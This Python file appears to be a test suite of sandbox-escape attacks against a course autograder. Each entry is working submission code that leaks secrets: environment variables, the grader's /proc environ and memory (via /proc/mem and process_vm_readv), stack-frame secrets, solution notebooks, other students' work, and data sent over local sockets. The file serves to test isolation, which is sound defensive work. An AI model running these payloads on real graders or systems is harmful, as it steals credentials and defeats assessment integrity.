"""What a submission is not to see: it looks for a canary and puts what it finds into its page of feedback, or sends it away.

Each goes by another way, to another place where something of the grader's lies.
"""

import textwrap

from hostile.attack import Attack, Evidence, stole, told, written

ASK = "def softmax(logits): raise ValueError(found[-400:])"


def looks(source: str) -> str:
    """A cell that sets `found` to what this body of a function returns, or to the error."""
    body = textwrap.indent(source.strip("\n"), "    ")
    return f"def look():\n{body}\ntry:\n    found = str(look())\nexcept BaseException as error:\n    found = repr(error)"


def leak(name: str, source: str, aims_at: str = "walls", **how: bool) -> Attack:
    """An attack that raises what the body of a function returns."""
    return Attack(name, "leak", aims_at, written({"00.1": ASK}, [looks(source)]), told, ("00.1",), **how)


def shows_check(evidence: Evidence) -> bool:
    return "softmax_by_torch" in evidence.texts


ATTACKS = [
    leak("reads its environment", "import os\nreturn dict(os.environ)", "two rooms"),
    leak("reads the command line that started Python", "import sys\nreturn sys.argv + sys.orig_argv", "two rooms"),
    leak(
        "reads the secret of the seeds in the frames below its own",
        """
import sys
frame = sys._getframe()
while frame and "secret" not in frame.f_locals:
    frame = frame.f_back
return frame.f_locals["secret"]
""",
        "two rooms",
    ),
    leak(
        "finds the examiner, and in it the secret of the seeds, among all objects",
        "import gc\nreturn [o.secret for o in gc.get_objects() if type(o).__name__ == 'Examiner']",
        "two rooms",
    ),
    Attack(
        "prints the source of the check, which inspect finds for the frames below",
        "leak",
        "two rooms",
        written(
            {
                "00.1": "import inspect, sys\n"
                "def softmax(logits):\n"
                "    frames, frame = [], sys._getframe()\n"
                "    while frame:\n"
                "        frames, frame = [*frames, frame], frame.f_back\n"
                "    check = [f for f in frames if f.f_code.co_name == 'softmax' and 'room' in f.f_locals][0]\n"
                "    module = inspect.getsource(inspect.getmodule(check))\n"
                "    raise ValueError(module[module.index('def '):][:300])"
            }
        ),
        shows_check,
        ("00.1",),
    ),
    Attack(
        "prints the secret inputs where the grader's own output goes",
        "leak",
        "two rooms",
        written(
            {
                "00.1": "import sys\n"
                "def softmax(logits):\n"
                "    print('hostile-inputs', logits.shape, file=sys.__stdout__, flush=True)\n"
                "    return logits"
            }
        ),
        lambda evidence: "hostile-inputs" in evidence.texts,
        ("00.1",),
    ),
    leak("reads the grader's environment in /proc", "import os\nreturn open(f'/proc/{os.getppid()}/environ').read()"),
    leak(
        "reads everybody's command lines in /proc",
        """
import glob
lines = [open(name).read() for name in glob.glob("/proc/[0-9]*/cmdline")]
return [line for line in lines if "hostile.classroom" in line]
""",
    ),
    leak("reads a file in the grader's home", "return open('@PLACE@/home/canary.txt').read()"),
    leak(
        "reads a file in the grader's working folder by the link in /proc",
        "import os\nreturn open(f'/proc/{os.getppid()}/cwd/canary.txt').read()",
    ),
    leak(
        "reads the secret of the seeds through a link of its own to it",
        "import os\nos.symlink('@PLACE@/results/secret.key', 'mine')\nreturn open('mine').read()",
    ),
    leak(
        "reads a temporary file by its handle, past the folders above it",
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
class Handle(ctypes.Structure):
    _fields_ = [("bytes", ctypes.c_uint), ("type", ctypes.c_int), ("handle", ctypes.c_ubyte * 128)]
handle, mount = Handle(bytes=128), ctypes.c_int()
path = b"@PLACE@/temp/canary.txt"
if libc.name_to_handle_at(-100, path, ctypes.byref(handle), ctypes.byref(mount), 0) < 0:
    raise OSError(ctypes.get_errno(), "name_to_handle_at")
file = libc.open_by_handle_at(os.open("/", os.O_RDONLY), ctypes.byref(handle), 0)
if file < 0:
    raise OSError(ctypes.get_errno(), "open_by_handle_at")
return os.read(file, 100)
""",
        as_root=True,
    ),
    Attack(
        "runs the solution that lies in the course's folder",
        "leak",
        "walls",
        written(
            {"00.1": "softmax = theirs['softmax']"},
            [
                "import json\n"
                "cells = json.load(open('@PLACE@/course/solutions/00-getting-started.ipynb'))['cells']\n"
                "theirs = {}\n"
                "for cell in cells:\n"
                "    source = ''.join(cell['source'])\n"
                "    if cell['cell_type'] == 'code' and ('import numpy' in source or 'def softmax' in source):\n"
                "        exec(source, theirs)\n"
            ],
        ),
        stole("00.1"),
        ("00.1",),
    ),
    leak(
        "prints another student's notebook, found by walking the folders above",
        """
import os
for place, _, names in os.walk("@PLACE@"):
    if place.endswith("-honest") and names:
        text = open(os.path.join(place, names[0])).read()
        return text[text.index("# can"):][:100]
""",
    ),
    leak(
        "asks a service of the machine over the loopback device",
        "import socket\nreturn socket.create_connection(('127.0.0.1', int('@PORT@')), 1).recv(100)",
    ),
    leak(
        "asks a service of the machine over a socket in the file system",
        "import socket\nend = socket.socket(socket.AF_UNIX)\nend.connect('@PLACE@/unix.socket')\nreturn end.recv(100)",
    ),
    leak(
        "asks a service of the machine over an abstract socket",
        "import socket\nend = socket.socket(socket.AF_UNIX)\nend.connect('\\0@PLACE@/abstract')\nreturn end.recv(100)",
    ),
    Attack(
        "sends the secret inputs away over the network",
        "leak",
        "walls",
        written(
            {
                "00.1": "import socket\n"
                "def softmax(logits):\n"
                "    end = socket.create_connection(('127.0.0.1', int('@PORT@')), 1)\n"
                "    end.sendall(f'hostile-sent {logits.shape}'.encode())\n"
                "    return logits"
            }
        ),
        lambda evidence: "hostile-sent" in evidence.texts,
        ("00.1",),
    ),
    leak(
        "reads the grader's memory as a file",
        """
import os
with open(f"/proc/{os.getppid()}/maps") as maps, open(f"/proc/{os.getppid()}/mem", "rb", 0) as memory:
    for line in maps:
        if "[stack]" in line:
            first, last = (int(n, 16) for n in line.split()[0].split("-"))
            memory.seek(first)
            data = memory.read(last - first)
            return data[data.index(b"COURSE_" + b"TOKEN="):][:60]
""",
        as_root=True,
    ),
    leak(
        "copies the grader's memory with process_vm_readv",
        """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
class Vector(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]
data = open(f"/proc/{os.getppid()}/stat").read().rpartition(")")[2].split()
first, last = int(data[47]), int(data[48])  # the environment, of which the kernel tells where it is
copy = ctypes.create_string_buffer(last - first)
here, there = Vector(ctypes.addressof(copy), last - first), Vector(first, last - first)
if libc.process_vm_readv(os.getppid(), ctypes.byref(here), 1, ctypes.byref(there), 1, 0) < 0:
    raise OSError(ctypes.get_errno(), "process_vm_readv")
return copy.raw[copy.raw.index(b"COURSE_" + b"TOKEN="):][:60]
""",
        as_root=True,
    ),
]
